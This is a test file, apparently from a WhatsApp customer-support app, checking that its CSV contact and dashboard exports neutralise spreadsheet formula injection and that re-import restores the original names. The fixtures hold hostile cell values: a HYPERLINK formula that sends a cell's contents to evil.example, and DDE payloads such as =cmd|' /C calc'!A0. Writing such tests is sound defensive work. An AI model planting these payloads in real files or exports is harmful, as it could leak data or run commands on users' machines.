import { describe, expect, it } from 'vitest';
import { parseContactCsv } from '../src/domain/contact-import.ts';
import { csvField, neutraliseFormula, restoreNeutralisedFormula } from '../src/domain/csv.ts';
import { attendantsCsv } from '../src/domain/dashboard/attendants-csv.ts';
import { contactCsvLines } from '../src/modules/contacts/serialize.ts';

type ContactRow = Parameters<typeof contactCsvLines>[0][number];
const contact = (name: string, number = '5511999990001', email = '') =>
  ({ name, number, email }) as ContactRow;

describe('CSV cells a spreadsheet would run as formulas', () => {
  it.each(['=1+1', '+5511', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])(
    'neutralises %j with a leading apostrophe',
    (text) => {
      expect(neutraliseFormula(text)).toBe(`'${text}`);
      expect(restoreNeutralisedFormula(neutraliseFormula(text))).toBe(text);
    },
  );

  it('leaves ordinary text alone, also formula characters after the start', () => {
    for (const text of ['Ana', 'a=b', 'José - loja', '5511999990001', "'quoted", ''])
      expect(neutraliseFormula(text)).toBe(text);
    expect(restoreNeutralisedFormula("'Ana")).toBe("'Ana");
  });

  it('quotes a neutralised cell that also holds the separator, a quote or a line break', () => {
    expect(csvField('=HYPERLINK("http://evil.example?x="&A1;"clic")')).toBe(
      `"'=HYPERLINK(""http://evil.example?x=""&A1;""clic"")"`,
    );
    expect(csvField('\r\n=1')).toBe(`"'\r\n=1"`);
  });

  it('quotes a field holding any separator and neutralises a formula after one, for a spreadsheet split at commas', () => {
    expect(csvField("Maria,=cmd|' /C calc'!A0")).toBe(`"Maria,'=cmd|' /C calc'!A0"`);
    expect(csvField('Ana; +5511')).toBe(`"Ana; '+5511"`);
    expect(csvField('a\t@SUM(1)')).toBe(`"a\t'@SUM(1)"`);
    expect(csvField('Silva, Ana')).toBe('"Silva, Ana"');
    expect(csvField('Rua 1,2')).toBe('"Rua 1,2"');
    for (const text of ["Maria,=cmd|' /C calc'!A0", 'Ana; +5511', '=x,-y', 'a, b'])
      expect(restoreNeutralisedFormula(neutraliseFormula(text))).toBe(text);
    // Read back as a comma-separated reader would: no cell starts a formula.
    const cells = csvField("Maria,=cmd|' /C calc'!A0").replace(/^"|"$/g, '').split(',');
    expect(cells.every((cell) => !/^[=+\-@]/.test(cell))).toBe(true);
  });

  it('neutralises the contacts export, whose names come from WhatsApp profiles', () => {
    expect(
      contactCsvLines([
        contact("=cmd|' /C calc'!A0"),
        contact("@SUM(1+1)*cmd|' /C calc'!A0", '5511999990002', '+x@example.com'),
        contact('-1;2'),
        contact('Ana'),
      ]),
    ).toEqual([
      `'=cmd|' /C calc'!A0;5511999990001;`,
      `'@SUM(1+1)*cmd|' /C calc'!A0;5511999990002;'+x@example.com`,
      `"'-1;2";5511999990001;`,
      'Ana;5511999990001;',
    ]);
  });

  it('neutralises the dashboard attendants export through the same function', () => {
    const csv = attendantsCsv([
      {
        id: 1,
        name: '+cmd',
        tickets: 1,
        avgSupportTime: 0,
        avgFirstResponseTime: 0,
        rating: null,
        ratings: 0,
        online: false,
      },
    ] as unknown as Parameters<typeof attendantsCsv>[0]);
    expect(csv.split('\n')[1]).toBe(`'+cmd;1;0;0;;0;No`);
  });
});

describe('importing our own export', () => {
  it('reads a neutralised name back as it was', () => {
    const file = [
      'name;number;email',
      ...contactCsvLines([contact('=Ana'), contact('Bruno', '5511999990002')]),
    ].join('\n');
    const { rows } = parseContactCsv(new TextEncoder().encode(file));
    expect(rows.map((row) => row.name)).toEqual(['=Ana', 'Bruno']);
  });
});
